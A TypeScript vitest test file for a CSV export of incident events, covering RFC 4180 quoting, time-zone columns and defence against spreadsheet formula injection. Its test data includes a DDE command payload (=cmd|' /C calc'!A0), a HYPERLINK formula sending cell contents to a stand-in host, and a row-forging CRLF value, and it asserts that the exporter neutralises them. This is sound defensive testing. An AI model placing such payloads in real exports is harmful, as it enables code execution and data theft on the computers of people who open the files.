import { describe, expect, it } from 'vitest';
import type { IncidentEvent } from '../incident.ts';
import { csvColumns, csvField, eventsCsv, eventsCsvRows } from './csv.ts';

/** RFC 4180 records, strictly: CRLF between records, quoted fields may hold anything. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"') {
      i++;
      for (;;) {
        const q = text.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        field += text.slice(i, q);
        i = q + 1;
        if (text[i] === '"') {
          field += '"';
          i++;
        } else break;
      }
    }
    const c = text[i];
    if (c === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else if (c === undefined) break;
    else if (c === '\r' || c === '\n' || c === '"') throw new Error(`bare ${JSON.stringify(c)} at ${i}`);
    else {
      field += c;
      i++;
    }
  }
  if (field !== '' || row.length > 0) throw new Error('last record without CRLF');
  return rows;
}

function ev(more: Partial<IncidentEvent>): IncidentEvent {
  return {
    ts: '2019-11-12T10:14:03.441308Z',
    host: 'k8s-worker-1',
    stage: 'connection-reset',
    kind: 'libceph-socket-closed',
    recovery: false,
    source: 'sample/k8s-worker-1/dmesg.log',
    line: 866,
    offset: 57062,
    text: '[631966.208200] libceph: mon0 10.99.10.1:6789 socket closed (con state OPEN)',
    stamp: '[631966.208200]',
    severity: 'warning',
    alsoIn: [{ source: 'sample/k8s-worker-1/journal.log', line: 256 }],
    episode: 'episode-1',
    ...more,
  };
}

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\rhere', '"cr\rhere"'],
    ['=1+1', "'=1+1"],
    ['+41 22', "'+41 22"],
    ['-2', "'-2"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tindented', "'\tindented"],
    ['\r=1', `"'\r=1"`],
    ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
    ['a=1', 'a=1'],
    [' =1', ' =1'],
    ['ümlaut → ≥', 'ümlaut → ≥'],
  ])('%j → %j', (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });
});

describe('eventsCsv', () => {
  it('writes the header and one row per event in UTC, CRLF after every record, no BOM', () => {
    const csv = eventsCsv([ev({})], { display: { mode: 'utc' } });
    expect(csv).toBe(
      'time_utc,host,stage,stage_title,kind,recovery,severity,episode,source,line,stamp,text,also_in\r\n' +
        '2019-11-12T10:14:03.441308Z,k8s-worker-1,connection-reset,Connection reset,libceph-socket-closed,false,' +
        'warning,episode-1,sample/k8s-worker-1/dmesg.log,866,[631966.208200],' +
        '[631966.208200] libceph: mon0 10.99.10.1:6789 socket closed (con state OPEN),sample/k8s-worker-1/journal.log:256\r\n',
    );
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
  });

  it('adds the time in the chosen zone, to the precision of the ISO string, when the display is not UTC', () => {
    const events = [
      ev({}),
      ev({ ts: '2019-11-12T23:59:59Z' }),
      ev({ ts: '2019-07-01T12:00:00.5Z' }),
      ev({ ts: null }),
    ];
    const rows = parseCsv(eventsCsv(events, { display: { mode: 'zone', zone: 'Asia/Kolkata' } }));
    expect(rows[0]?.slice(0, 3)).toEqual(['time_utc', 'time (Asia/Kolkata)', 'host']);
    expect(rows.slice(1).map((r) => r.slice(0, 2))).toEqual([
      ['2019-11-12T10:14:03.441308Z', '2019-11-12 15:44:03.441308'],
      ['2019-11-12T23:59:59Z', '2019-11-13 05:29:59'],
      ['2019-07-01T12:00:00.5Z', '2019-07-01 17:30:00.5'],
      ['', ''],
    ]);
    const berlin = parseCsv(
      eventsCsv([ev({ ts: '2019-07-01T12:00:00Z' })], { display: { mode: 'zone', zone: 'Europe/Berlin' } }),
    );
    expect(berlin[1]?.[1]).toBe('2019-07-01 14:00:00');
  });

  it('gets each line of a second and the repeated autumn hour right', () => {
    const ts = [
      '2019-10-27T00:59:59.100Z',
      '2019-10-27T00:59:59.900Z',
      '2019-10-27T01:00:00.000001Z',
      '2019-10-27T00:59:59.5Z',
    ];
    const rows = parseCsv(
      eventsCsv(
        ts.map((t) => ev({ ts: t })),
        { display: { mode: 'zone', zone: 'Europe/Berlin' } },
      ),
    );
    expect(rows.slice(1).map((r) => r[1])).toEqual([
      '2019-10-27 02:59:59.100',
      '2019-10-27 02:59:59.900',
      '2019-10-27 02:00:00.000001',
      '2019-10-27 02:59:59.5',
    ]);
  });

  it('round-trips hostile text through an RFC 4180 reader, neutralising formulas', () => {
    const hostile = [
      ev({ text: 'msg="a, b" said "hi"\r\nforged,row', recovery: true }),
      ev({ text: "=cmd|' /C calc'!A0", host: '@evil', alsoIn: [] }),
      ev({ text: '-1+1', stamp: '+0.000123', episode: undefined }),
      ev({
        alsoIn: [
          { source: 'a/journal.log', line: 1 },
          { source: 'b, "quoted"/x', line: 2 },
        ],
      }),
    ];
    const rows = parseCsv(eventsCsv(hostile, { display: { mode: 'utc' } }));
    expect(rows).toHaveLength(5);
    for (const row of rows) expect(row).toHaveLength(csvColumns({ mode: 'utc' }).length);
    const col = (name: string) => csvColumns({ mode: 'utc' }).indexOf(name);
    expect(rows[1]?.[col('text')]).toBe('msg="a, b" said "hi"\r\nforged,row');
    expect(rows[1]?.[col('recovery')]).toBe('true');
    expect(rows[2]?.[col('text')]).toBe("'=cmd|' /C calc'!A0");
    expect(rows[2]?.[col('host')]).toBe("'@evil");
    expect(rows[2]?.[col('also_in')]).toBe('');
    expect(rows[3]?.[col('text')]).toBe("'-1+1");
    expect(rows[3]?.[col('stamp')]).toBe("'+0.000123");
    expect(rows[3]?.[col('episode')]).toBe('');
    expect(rows[4]?.[col('also_in')]).toBe('a/journal.log:1; b, "quoted"/x:2');
    for (const row of rows) for (const field of row) expect(field, field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is a header alone for no events, and the row generator yields the same records', () => {
    expect(eventsCsv([], { display: { mode: 'utc' } })).toBe(
      'time_utc,host,stage,stage_title,kind,recovery,severity,episode,source,line,stamp,text,also_in\r\n',
    );
    const events = [ev({}), ev({ line: 867 })];
    const rows = [...eventsCsvRows(events, { display: { mode: 'utc' } })];
    expect(rows).toHaveLength(3);
    expect(rows.every((r) => r.endsWith('\r\n'))).toBe(true);
    expect(rows.join('')).toBe(eventsCsv(events, { display: { mode: 'utc' } }));
  });

  it('names the browser zone in the header when times are in browser time', () => {
    const [header] = parseCsv(eventsCsv([], { display: { mode: 'local' } }));
    expect(header?.[1]).toMatch(/^time \(.+, browser time\)$/);
  });
});
